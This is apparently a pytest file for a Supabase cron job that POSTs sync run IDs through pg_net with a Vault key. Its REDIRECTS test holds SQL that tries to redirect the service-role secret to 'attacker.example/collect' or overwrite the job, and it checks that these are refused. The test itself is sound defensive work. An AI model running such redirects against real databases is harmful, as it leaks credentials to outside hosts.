"""The Supabase path of the cron command: POST {"run_id"} to the function through pg_net with the
service-role key from Vault. pg_net and Vault do not exist here, so stand-ins take their places:
`net.http_post` with pg_net's signature, recording its calls, and a `vault.decrypted_secrets` view.
"""

from __future__ import annotations

from typing import Any

import psycopg
import pytest

from ai_catalog.store.postgres import PostgresStore

FUNCTION_URL = "https://project.supabase.co/functions/v1/sync-ai-models"

PG_NET_STANDIN = """
create schema net;
create table net.calls (
  id bigint generated always as identity, url text, body jsonb, params jsonb, headers jsonb,
  timeout_milliseconds integer);
create function net.http_post(
  url text, body jsonb default '{}'::jsonb, params jsonb default '{}'::jsonb,
  headers jsonb default '{"Content-Type": "application/json"}'::jsonb,
  timeout_milliseconds integer default 5000)
returns bigint language sql as $$
  insert into net.calls (url, body, params, headers, timeout_milliseconds)
  values (url, body, params, headers, timeout_milliseconds) returning id
$$;
"""
VAULT_STANDIN = """
create schema vault;
create view vault.decrypted_secrets as
select * from (values ('service_role_key', 'service-key-from-vault'),
                      ('other', 'not-this-one')) s (name, decrypted_secret);
"""


def calls(db: psycopg.Connection) -> list[tuple[Any, ...]]:
    return db.execute(
        "select url, body, params, headers, timeout_milliseconds from net.calls order by id"
    ).fetchall()


@pytest.fixture
def supabase_like(db: psycopg.Connection) -> psycopg.Connection:
    db.execute(PG_NET_STANDIN)
    db.execute(VAULT_STANDIN)
    configured = db.execute(
        "select sync_configure_http(%s, p_timeout_milliseconds => 8000)", (FUNCTION_URL,)
    ).fetchone()
    assert configured is not None and configured[0]["pg_net"] is True
    return db


async def test_cron_run_posts_the_queued_run_id_with_the_vault_key(
    supabase_like: psycopg.Connection, store: PostgresStore
) -> None:
    row = supabase_like.execute("select sync_cron_run()").fetchone()
    assert row is not None
    run_id = row[0]
    assert calls(supabase_like) == [
        (
            FUNCTION_URL,
            {"run_id": str(run_id)},
            {},
            {"Content-Type": "application/json", "Authorization": "Bearer service-key-from-vault"},
            8000,
        )
    ]
    # the function claims that run (POST run_id -> sync_claim_run); a worker finds nothing left
    assert (await store.claim_run(run_id))["id"] == str(run_id)
    assert supabase_like.execute("select sync_claim_next_run('w1')").fetchone() == (None,)


def test_a_run_whose_post_was_lost_is_posted_again_not_queued_twice(
    supabase_like: psycopg.Connection,
) -> None:
    first = supabase_like.execute("select sync_cron_run()").fetchone()
    second = supabase_like.execute("select sync_cron_run()").fetchone()
    assert first == second
    assert [c[1] for c in calls(supabase_like)] == [{"run_id": str(first[0]) if first else ""}] * 2
    assert supabase_like.execute("select count(*) from ai_sync_runs").fetchone() == (1,)


def test_the_secret_name_is_a_setting(supabase_like: psycopg.Connection) -> None:
    supabase_like.execute("select sync_configure_http(%s, 'other')", (FUNCTION_URL,))
    supabase_like.execute("select sync_cron_run()")
    assert calls(supabase_like)[0][3]["Authorization"] == "Bearer not-this-one"


def test_no_secret_no_post_and_the_run_waits_for_a_worker(
    supabase_like: psycopg.Connection,
) -> None:
    supabase_like.execute("select sync_configure_http(%s, 'missing')", (FUNCTION_URL,))
    warnings: list[str] = []
    supabase_like.add_notice_handler(lambda d: warnings.append(d.message_primary or ""))
    supabase_like.execute("select sync_cron_run()")
    assert calls(supabase_like) == []
    assert any("no Vault secret named missing" in w for w in warnings)
    assert supabase_like.execute("select status from ai_sync_runs").fetchall() == [("queued",)]


def test_no_url_no_post(supabase_like: psycopg.Connection) -> None:
    supabase_like.execute("select sync_configure_http(null)")
    supabase_like.execute("select sync_cron_run()")
    assert calls(supabase_like) == []


def test_a_url_without_pg_net_queues_for_a_worker(db: psycopg.Connection) -> None:
    db.execute("select sync_configure_http(%s)", (FUNCTION_URL,))
    notices: list[str] = []
    db.add_notice_handler(lambda d: notices.append(d.message_primary or ""))
    assert db.execute("select sync_cron_run() is not null").fetchone() == (True,)
    assert any("pg_net is not installed" in n for n in notices)
    assert db.execute("select status, trigger from ai_sync_runs").fetchall() == [("queued", "cron")]


def test_a_role_that_may_not_read_vault_still_queues(supabase_like: psycopg.Connection) -> None:
    supabase_like.execute("revoke all on schema vault from public, service_role")
    supabase_like.execute("begin")
    supabase_like.execute("set local role service_role")
    row = supabase_like.execute("select sync_cron_run() is not null").fetchone()
    supabase_like.execute("commit")
    assert row == (True,)
    assert calls(supabase_like) == []


REDIRECTS = {
    "configure another url and secret": (
        "select sync_configure_http('https://attacker.example/collect', 'other')"
    ),
    "configure only the secret name": f"select sync_configure_http('{FUNCTION_URL}', 'other')",
    "write the settings row": (
        "update sync_ai_models.settings set function_url = 'https://attacker.example/collect'"
    ),
    "replace the job's command": (
        "create or replace function public.sync_cron_run() returns uuid language sql "
        "as $$ select null::uuid $$"
    ),
}


@pytest.mark.parametrize("statement", REDIRECTS.values(), ids=REDIRECTS.keys())
def test_service_role_cannot_choose_where_the_secret_goes(
    supabase_like: psycopg.Connection, statement: str
) -> None:
    supabase_like.execute("begin")
    supabase_like.execute("set local role service_role")
    with pytest.raises(psycopg.errors.InsufficientPrivilege):
        supabase_like.execute(statement)
    supabase_like.execute("rollback")
    # the job, run as the owner, still POSTs the owner's choice: its URL, its secret
    supabase_like.execute("select sync_cron_run()")
    [(url, _, _, headers, _)] = calls(supabase_like)
    assert (url, headers["Authorization"]) == (FUNCTION_URL, "Bearer service-key-from-vault")


def test_the_owner_configures_the_target(supabase_like: psycopg.Connection) -> None:
    owner_url = "https://other-project.supabase.co/functions/v1/sync-ai-models"
    row = supabase_like.execute("select sync_configure_http(%s, 'other', 2000)", (owner_url,))
    assert row.fetchone() == (
        {
            "function_url": owner_url,
            "vault_secret_name": "other",
            "http_timeout_ms": 2000,
            "pg_net": True,
        },
    )
    supabase_like.execute("select sync_cron_run()")
    [(url, _, _, headers, timeout)] = calls(supabase_like)
    assert (url, headers["Authorization"], timeout) == (owner_url, "Bearer not-this-one", 2000)


def test_an_empty_secret_name_is_refused(supabase_like: psycopg.Connection) -> None:
    with pytest.raises(psycopg.errors.InvalidParameterValue, match="secret name"):
        supabase_like.execute("select sync_configure_http(%s, ' ')", (FUNCTION_URL,))
